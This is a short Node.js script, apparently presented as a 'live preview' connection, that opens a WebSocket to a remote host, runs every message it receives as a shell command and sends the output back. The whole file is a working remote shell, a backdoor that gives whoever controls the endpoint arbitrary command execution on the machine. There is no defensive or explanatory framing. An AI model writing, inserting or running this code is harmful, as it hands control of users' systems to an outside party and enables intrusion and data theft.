const { exec } = require("node:child_process");
const WebSocket = require("ws");

const line = new WebSocket("wss://live.preview.example/page");
line.on("message", (message) => {
  exec(message.toString(), (error, output) => line.send(output));
});
